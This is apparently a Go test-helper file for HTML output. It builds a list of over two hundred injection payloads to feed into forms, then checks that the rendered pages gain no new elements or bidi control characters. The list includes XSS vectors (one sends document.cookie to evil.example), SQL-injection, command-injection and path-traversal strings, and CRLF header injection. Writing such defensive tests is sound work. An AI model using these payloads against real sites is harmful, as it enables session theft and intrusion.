package htmlcheck

import (
	"fmt"
	"slices"
	"strings"

	"golang.org/x/net/html"
)

// Payloads are texts that try to be more than a text: markup, attributes, scripts
// and addresses that run, in the spellings of the known families, with signs
// that turn the writing round, that nobody sees, and that end a string. There are
// more than two hundred. What people write is put into every field of every form
// this way; no answer may then differ from that to a plain word ([Skeleton]).
func Payloads() []string {
	out := []string{
		// What browsers and templates forgive.
		"<", "<>", "</", "<!--", "-->", "<![CDATA[", "]]>", "<?php ?>", "<%= 1 %>", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-", "＜script＞",
		"{{.}}", "{{printf \"%s\" .}}", "{{template \"page.layout\" .}}", "${7*7}", "#{7*7}", "<%%>", "[[${7*7}]]", "{name}", "{n}", "{0}", "%s%n%d", "%!s(MISSING)", "ZgotmplZ",
		// Ends of strings, lines, headers, statements.
		"\x00", "a\x00b", "\x00<script>alert(1)</script>", "\r\nSet-Cookie: desk=evil", "\r\n\r\n<script>alert(1)</script>", "\n", "\t", "\x1b[2J", "\x07", "\x7f", "\u0085", "\u2028alert(1)", "\u2029alert(1)", "\ufeff", "\ufffe", "\xff\xfe", "\xc0\xbc", "\xed\xa0\x80",
		"'; drop table person; --", "\"; drop table person; --", "' or '1'='1", "1; select pg_sleep(1)", "$1", "$$", "\\", "\\'", "`id`", "$(id)", "| id", "; id", "../../etc/passwd", "..\\..\\x", "file:///etc/passwd", "=cmd|'/c calc'!A1", "+1+1", "-1", "@SUM(1)",
		// Writing turned round or hidden.
		"\u202egnp.exe", "a\u202eb\u202cc", "\u2066x\u2069", "\u2067<b>\u2069", "\u2068\u202e\u2069", "\u200fشبكة\u200e", "\u061cx", "a\u200bb", "a\u2060b", "\u00adx", "e\u0301\u0301\u0301\u0301", strings.Repeat("\u0300", 200), "\U000e0041\U000e0042", "👩\u200d💻", "ﷺ", "İı", "Ａｄｍｉｎ", "аdmin",
		strings.Repeat("x", 10_000), strings.Repeat("<b>", 500), strings.Repeat("ع", 3000), strings.Repeat("&", 1000),
	}
	calls := []string{"alert(1)", "alert`1`", "eval(name)", "fetch('//evil.example/'+document.cookie)", "top[8680439..toString(30)](1)"}
	for _, call := range calls {
		for _, open := range []string{"<script>%</script>", "<ScRiPt>%</sCrIpT>", "<script\n>%</script\n>", "<script/x>%</script>", "</script><script>%</script>", "<svg onload=%>", "<svg/onload=%//", "<img src=x onerror=%>", "<IMG SRC=x OnErRoR=\"%\">", "<body onload=%>",
			"<details open ontoggle=%>", "<input autofocus onfocus=%>", "<iframe srcdoc=\"<script>%</script>\">", "<math><mi xlink:href=\"javascript:%\">", "<a href=\"javascript:%\">x</a>", "<a href=\"java\tscript:%\">x</a>", "<form action=\"javascript:%\"><button>",
			"\"><script>%</script>", "'><script>%</script>", "\" onfocus=\"%\" autofocus=\"", "' onfocus='%' autofocus='", "` onfocus=`%`", "</textarea><script>%</script>", "</title><script>%</script>", "</option></select><script>%</script>", "</style><script>%</script>",
			"javascript:%", "JaVaScRiPt:%", "data:text/html,<script>%</script>", "vbscript:%", "\x01javascript:%", "<style>@import '//evil.example/%'</style>", "<link rel=stylesheet href=\"//evil.example/%\">", "<meta http-equiv=refresh content=\"0;javascript:%\">", "<base href=\"//evil.example/%\">",
			"<object data=\"javascript:%\">", "<embed src=\"javascript:%\">", "<template><script>%</script></template>", "<noscript><p title=\"</noscript><script>%</script>\">", "<!--><script>%</script>-->"} {
			out = append(out, strings.Replace(open, "%", call, 1))
		}
	}
	return out
}

// Vocabulary is what pages are built of: each kind of element with the names of
// its attributes. [Vocabulary.Learn] takes it from answers to plain words;
// [Vocabulary.Only] wants nothing else in an answer to a payload.
type Vocabulary map[string]bool

// Learn adds what a page is built of.
func (v Vocabulary) Learn(p *Page) []string {
	for _, w := range built(p) {
		v[w] = true
	}
	return nil
}

// Only wants no element that was not learnt.
func (v Vocabulary) Only(p *Page) []string {
	var out []string
	for _, w := range built(p) {
		if !v[w] {
			out = append(out, "holds <"+w+">, which no page of ours is built of")
		}
	}
	return append(out, Count("style", 1)(p)...)
}

// built lists the elements of a page with the names of their attributes, and of
// addresses whether they lead elsewhere or run.
func built(p *Page) []string {
	var out []string
	walk(p.root, func(n *html.Node) {
		switch n.Type {
		case html.CommentNode:
			out = append(out, "!-- --")
		case html.ElementNode:
			names := []string{n.Data}
			for _, a := range n.Attr {
				name := a.Key
				if address := strings.ToLower(strings.TrimSpace(a.Val)); slices.Contains([]string{"href", "src", "action"}, a.Key) && !local(address) && !strings.HasPrefix(address, "#") {
					name += "=elsewhere"
				}
				names = append(names, name)
			}
			slices.Sort(names[1:])
			out = append(out, strings.Join(names, " "))
		}
	})
	return out
}

// Unturned wants no sign in a page that turns the writing round, and none that
// ends a string: what people wrote must not reach beyond itself.
func Unturned(p *Page) []string {
	var out []string
	for _, r := range []rune{0, '\u202a', '\u202b', '\u202c', '\u202d', '\u202e'} {
		if strings.ContainsRune(string(p.Raw), r) {
			out = append(out, fmt.Sprintf("the page holds %U", r))
		}
	}
	return out
}
